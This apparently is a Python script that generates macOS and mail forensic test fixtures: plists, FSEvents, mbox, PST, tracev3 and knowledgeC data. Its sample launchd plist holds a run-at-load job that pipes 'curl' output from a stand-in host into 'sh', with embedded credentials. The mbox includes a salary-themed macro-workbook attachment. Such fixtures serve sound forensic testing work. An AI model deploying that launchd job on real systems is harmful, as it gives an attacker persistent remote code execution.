#!/usr/bin/env python3
"""Make the property lists, FSEvents, mail box and named files in testdata/artifact.

usage: apple.py OUT_FOLDER
"""
import datetime
import gzip
import os
import plistlib
import sqlite3
import struct
import sys

out = sys.argv[1]


def put(name, content):
    with open(os.path.join(out, name), "wb") as f:
        f.write(content)


put("sample.binary.plist", plistlib.dumps({
    "CFBundleIdentifier": "test.contoh.kemas", "nombor": -7, "nisbah": 1.5, "benar": True, "masa": datetime.datetime(2026, 11, 28, 8, 35, 56),
    "data": b"\x01\x02", "senarai": ["satu", "dua \u00e9\u6f22"], "dalam": {"a": {"b": 1}},
}, fmt=plistlib.FMT_BINARY))
put("sample.launchd.plist", plistlib.dumps({
    "Label": "test.contoh.kemas", "ProgramArguments": ["/bin/sh", "-c", "curl -u nurul:RAHSIA1234 http://203.0.113.9/m | sh"], "RunAtLoad": True, "StartInterval": 300,
}))
b = b"2SLD" + bytes(4)
records = b"".join(p.encode() + b"\0" + struct.pack("<QIQ", i, flags, node) for p, i, flags, node in [
    ("Users/nurul/Downloads/muat.dmg", 1001, 0x00800001, 77), ("Users/nurul/Downloads/muat.dmg", 1002, 0x00800002, 77), ("Users/nurul/Library", 1003, 0x01000004, 12)])
put("sample.fsevents", gzip.compress(b + struct.pack("<I", 12 + len(records)) + records, mtime=0))
put("sample.mbox", b"""From aminah@contoh.test Sat Nov 28 08:40:00 2026
Return-Path: <aminah@contoh.test>
Received: from mel.contoh.test (198.51.100.9)
 by portal; Sat, 28 Nov 2026 16:40:00 +0800
From: Aminah <aminah@contoh.test>
To: nurul@contoh.test, Ali <ali@contoh.test>
Subject: =?utf-8?q?Gaji_=C3=A9?=
Date: Sat, 28 Nov 2026 16:40:00 +0800
Message-ID: <1@contoh.test>
Content-Type: multipart/mixed; boundary=x

--x
Content-Type: application/octet-stream;
 name="gaji.xlsm"
Content-Disposition: attachment; filename="gaji.xlsm"

AAAA
>From x
--x--

From ali@contoh.test Sat Nov 28 09:00:00 2026
From: ali@contoh.test
Subject: Re: Gaji
Date: Sat, 28 Nov 2026 17:00:00 +0800

ya
""")
put("sample.pst", b"!BDN" + struct.pack("<I", 0) + b"SM" + struct.pack("<HHBB", 23, 19, 1, 1) + bytes(513 - 16) + b"\x01" + bytes(50))
put("sample.tracev3", struct.pack("<IIQ", 0x1000, 0x11, 0xd0) + bytes(0xd0))
path = os.path.join(out, "knowledgec.sqlite")
if os.path.exists(path):
    os.remove(path)
c = sqlite3.connect(path)
c.executescript("""
CREATE TABLE ZOBJECT ( Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, ZSTREAMNAME VARCHAR, ZVALUESTRING VARCHAR, ZSTARTDATE TIMESTAMP, ZENDDATE TIMESTAMP, ZCREATIONDATE TIMESTAMP, ZSECONDSFROMGMT INTEGER );
CREATE TABLE ZSOURCE ( Z_PK INTEGER PRIMARY KEY, ZBUNDLEID VARCHAR );
INSERT INTO ZOBJECT VALUES(1,11,'/app/usage','com.apple.Safari',817547756,817547800.5,817547801,28800);
""")
c.close()
